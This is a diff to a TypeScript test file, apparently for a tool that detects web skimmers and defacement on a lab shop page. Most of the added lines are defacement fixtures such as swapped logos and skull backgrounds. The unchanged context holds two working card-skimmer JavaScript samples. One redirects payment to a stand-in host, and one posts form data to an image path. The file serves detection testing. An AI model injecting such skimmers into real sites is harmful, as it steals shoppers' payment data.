@@ -3,11 +3,13 @@ import {
   account,
   APP,
   FORM,
+  GOODS,
   HOSTED,
   LAYER,
   type LabShop,
   labShop,
   LISTENING,
+  LOGO,
   MANAGER,
   ORDERS,
   TAGS,
@@ -43,6 +45,10 @@ const SKIMMERS: Readonly<Record<string, string>> = {
   'other handlers of the buttons': `jQuery(document).ready(function(){if(!(document.cookie.indexOf('userpayid')+1))jQuery('*[onclick="payment.save()"]').attr('onclick','paynow();')});function paynow(){document.cookie='userpayid='+Math.random();jQuery(location).attr('href','//paymentpal.example.org/?payment='+btoa(location.host))}`,
   'a path of the site itself': `document.forms[0].addEventListener('submit',function(e){fetch('/img/p.gif',{method:'POST',body:new FormData(e.target)})});`,
 };
+
+/** The page with pictures: what is above its goods. */
+const goods = (above: string, more: Partial<LabShop> = {}): LabShop =>
+  labShop({ pages: { ...labShop().pages, '/goods': `${above}${GOODS.join('')}` }, ...more });
 
 type Place = readonly [name: string, kind: ScriptChangeKind, plant: (skimmer: string) => LabShop];
 
@@ -225,6 +231,28 @@ const others: readonly (readonly [string, ScriptChangeKind, LabShop])[] = [
     'the page says something else',
     'page_changed',
     labShop({ body: `<h1>Owned by the ghost crew</h1><p>Nothing here is safe any more</p>${FORM}` }),
+  ],
+  ['another logo', 'page_changed', goods(LOGO.replace('logo', 'owned'))],
+  [
+    'another logo on another host',
+    'page_changed',
+    goods(LOGO.replace('/img/logo', 'https://i.example.org/x')),
+  ],
+  [
+    'a logo that is called so',
+    'page_changed',
+    goods('<img src="/img/skull.png" class="site-logo">', { contents: {} }),
+  ],
+  ['other bytes of the logo', 'page_changed', labShop({ contents: { '/img/logo.png': 'ffff' } })],
+  [
+    'a picture behind the whole page',
+    'page_changed',
+    goods(`${LOGO}<style>.a{color:red}body{background:#000 url(/img/skull.jpg) center/cover}</style>`),
+  ],
+  [
+    'a picture behind the whole page in its element',
+    'page_changed',
+    goods(`${LOGO}<body background="/x.gif">`),
   ],
 ];
 
